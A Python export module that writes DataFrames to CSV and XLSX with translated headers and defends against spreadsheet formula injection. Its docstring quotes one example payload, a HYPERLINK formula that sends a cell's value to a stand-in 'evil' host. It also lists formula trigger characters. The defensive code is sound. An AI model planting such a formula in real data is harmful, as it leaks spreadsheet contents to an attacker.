"""CSV and XLSX files from a DataFrame, with translated column headers.

Pages pass the frame they show (same filters), so a download matches the
screen. Any area can use these, and every export and report must: each text
cell passes through `neutralise`, so a display name such as
`=HYPERLINK("http://evil/?"&A1,"Click")` stays text in Excel, LibreOffice and
Google Sheets instead of becoming a live formula (OWASP, "CSV Injection").
"""
import io

import pandas as pd

from portal.i18n import Translator

CSV_MIME = "text/csv"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def with_headers(frame: pd.DataFrame, t: Translator, prefix: str = "coaching.col.") -> pd.DataFrame:
    """Rename columns to `t(prefix + column)`; columns without a text keep their name."""
    def header(column: str) -> str:
        key = f"{prefix}{column}"
        text = t(key)
        return column if text == key else text

    return frame.rename(columns={c: header(str(c)) for c in frame.columns})


#: A spreadsheet reads a cell starting with one of these as a formula (tab and CR: OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A text that a spreadsheet would run as a formula, prefixed with `'` so it stays text.

    Numbers stay numbers (a negative mark is not text): only strings are touched.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _plain(frame: pd.DataFrame) -> pd.DataFrame:
    """Spreadsheet-safe values: lists joined, timezone-aware times made naive UTC, formulas defused.

    Column headers are defused too: a header can be a translated text or a question's name.
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if isinstance(series.dtype, pd.DatetimeTZDtype):
            out[column] = series.dt.tz_convert("UTC").dt.tz_localize(None)
        elif series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[column] = pd.Series([neutralise(", ".join(map(str, v)) if isinstance(v, (list, tuple)) else v)
                                     for v in series], index=series.index, dtype=series.dtype)
    return out.rename(columns={c: neutralise(c) for c in out.columns if isinstance(c, str)})


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV text with every text cell defused; for reports printed or downloaded.

    Lines end in CRLF as RFC 4180 says, so a field holding a bare CR is quoted, not split.
    """
    return _plain(frame).to_csv(index=False, lineterminator="\r\n")


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """UTF-8 with a byte-order mark, so Excel opens Chinese text correctly."""
    return csv_text(frame).encode("utf-8-sig")


def xlsx_bytes(frame: pd.DataFrame, sheet: str = "data") -> bytes:
    return xlsx_workbook({sheet: frame})


def xlsx_workbook(sheets: dict[str, pd.DataFrame]) -> bytes:
    """One XLSX file with a sheet per frame (sheet name -> frame), each defused like `xlsx_bytes`."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for sheet, frame in sheets.items():
            _plain(frame).to_excel(writer, index=False, sheet_name=_sheet_name(sheet))
    return buffer.getvalue()


def _sheet_name(name: str) -> str:
    cleaned = "".join("_" if ch in '[]:*?/\\' else ch for ch in name).strip() or "data"
    return cleaned[:31]
